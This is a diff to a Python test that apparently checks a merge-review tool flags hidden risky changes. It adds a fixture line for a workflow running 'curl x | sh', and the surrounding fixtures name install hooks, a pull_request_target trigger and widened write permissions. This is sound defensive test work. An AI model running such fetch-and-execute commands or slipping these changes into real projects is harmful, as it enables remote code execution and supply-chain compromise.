@@ -54,6 +54,7 @@ def test_merges_that_hide_changes_of_their_own_are_named():
         an_operation("install hook scripts.prepare", "changed", old="a", new="b", public=False),
         an_operation("trigger pull_request_target", new="pull_request_target"),
         an_operation("permissions contents", "changed", old="read", new="write", public=False),
+        an_operation("workflow runs curl x | sh", new="curl x | sh", public=False),
         an_operation("binary src/a.py", "changed", old="text", new="binary"),
     ],
 )
